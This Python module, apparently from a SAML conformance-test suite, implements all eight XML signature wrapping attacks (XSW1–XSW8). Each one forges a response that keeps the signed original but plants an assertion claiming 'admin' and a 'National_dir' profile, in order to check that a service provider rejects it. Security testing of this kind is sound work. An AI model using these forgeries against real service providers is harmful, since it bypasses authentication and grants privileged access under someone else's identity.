"""XML signature wrapping, XSW1–XSW8, as the SAML security literature numbers them.

Each variant keeps a correctly signed copy of the original somewhere a signature library
will find it, and puts an *evil* copy (another person, another profile) where a naive
reader reads: XSW1–2 wrap the signed Response, XSW3–8 the signed Assertion. A careful
service provider refuses them all (one Assertion, signature verified on exactly the element
it reads).
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from services.conformance.forge import Context, first_assertion
from services.saml import build
from services.saml.constants import NS
from services.saml.xml import text_of

_DS = NS["ds"]
_SAML = NS["saml"]
_SAMLP = NS["samlp"]
#: What the evil copy says: someone else, with the profile of a head of establishment.
EVIL_IDO = "e" * 128
EVIL_PROFILE = "National_dir"


def _unsigned(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(f"{{{_DS}}}Signature"):
        clone.remove(signature)
    return clone


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{_DS}}}Signature")
    if found is None:
        raise ValueError("the element to wrap is not signed")
    return found


def make_evil(assertion: etree._Element) -> None:
    """Turn an assertion (in place) into the attacker's: other IDO, other profile, new ID."""
    assertion.set("ID", build.new_id())
    name_id = assertion.find(f"{{{_SAML}}}Subject/{{{_SAML}}}NameID")
    if name_id is not None:
        name_id.text = "admin"
    for attribute in assertion.iter(f"{{{_SAML}}}Attribute"):
        values = attribute.findall(f"{{{_SAML}}}AttributeValue")
        if attribute.get("Name") == "IDO" and values:
            values[0].text = EVIL_IDO
        if attribute.get("Name") == "PRO" and values:
            values[0].text = EVIL_PROFILE


def is_evil_value(value: str) -> bool:
    return value in (EVIL_IDO, EVIL_PROFILE)


def _evil_response(root: etree._Element) -> etree._Element:
    evil = copy.deepcopy(root)
    evil.set("ID", build.new_id())
    make_evil(first_assertion(evil))
    return evil


def xsw1(root: etree._Element, ctx: Context) -> etree._Element:
    """Evil Response keeps the signature; the signed original is moved inside it."""
    evil = _evil_response(root)
    _signature(evil).append(_unsigned(root))
    return evil


def xsw2(root: etree._Element, ctx: Context) -> etree._Element:
    """Evil Response; the signed original placed before the signature (detached)."""
    evil = _evil_response(root)
    signature = _signature(evil)
    evil.insert(evil.index(signature), _unsigned(root))
    return evil


def _assertion_pair(root: etree._Element) -> tuple[etree._Element, etree._Element]:
    original = first_assertion(root)
    evil = copy.deepcopy(original)
    make_evil(evil)
    return original, evil


def xsw3(root: etree._Element, ctx: Context) -> etree._Element:
    """Unsigned evil Assertion inserted before the signed one."""
    original, evil = _assertion_pair(root)
    evil = _unsigned(evil)
    root.insert(root.index(original), evil)
    return root


def xsw4(root: etree._Element, ctx: Context) -> etree._Element:
    """Unsigned evil Assertion takes the place of the signed one, which it wraps."""
    original, evil = _assertion_pair(root)
    evil = _unsigned(evil)
    root.replace(original, evil)
    evil.append(original)
    return root


def xsw5(root: etree._Element, ctx: Context) -> etree._Element:
    """Evil Assertion carries the copied signature; the original, unsigned, goes last."""
    original, evil = _assertion_pair(root)
    root.replace(original, evil)
    root.append(_unsigned(original))
    return root


def xsw6(root: etree._Element, ctx: Context) -> etree._Element:
    """Evil Assertion carries the signature, the original hides inside that signature."""
    original, evil = _assertion_pair(root)
    root.replace(original, evil)
    _signature(evil).append(_unsigned(original))
    return root


def xsw7(root: etree._Element, ctx: Context) -> etree._Element:
    """Signed original moved into an Extensions element; unsigned evil Assertion in its place."""
    original, evil = _assertion_pair(root)
    evil = _unsigned(evil)
    root.replace(original, evil)
    extensions = etree.Element(f"{{{_SAMLP}}}Extensions")
    issuer = root.find(f"{{{_SAML}}}Issuer")
    root.insert(0 if issuer is None else root.index(issuer) + 1, extensions)
    extensions.append(original)
    return root


def xsw8(root: etree._Element, ctx: Context) -> etree._Element:
    """Evil Assertion carries the signature; the original sits in a ds:Object inside it."""
    original, evil = _assertion_pair(root)
    root.replace(original, evil)
    etree.SubElement(_signature(evil), f"{{{_DS}}}Object").append(_unsigned(original))
    return root


WRAPPINGS: tuple[tuple[str, str, Callable[[etree._Element, Context], etree._Element]], ...] = (
    ("xsw1", "réponse malveillante, l'originale signée déplacée dans la signature", xsw1),
    ("xsw2", "réponse malveillante, l'originale signée placée avant la signature", xsw2),
    ("xsw3", "assertion malveillante non signée insérée avant l'assertion signée", xsw3),
    ("xsw4", "assertion malveillante enveloppant l'assertion signée", xsw4),
    ("xsw5", "assertion malveillante portant la signature, l'originale à la fin", xsw5),
    ("xsw6", "assertion malveillante portant la signature, l'originale dans la signature", xsw6),
    ("xsw7", "assertion signée déplacée dans Extensions, assertion malveillante à sa place",
     xsw7),
    ("xsw8", "assertion malveillante portant la signature, l'originale dans un ds:Object", xsw8),
)


def read_values(root: etree._Element) -> list[str]:
    """Every attribute value of the first Assertion, comments left out (for tests)."""
    return [text_of(v) for v in first_assertion(root).iter(f"{{{_SAML}}}AttributeValue")]
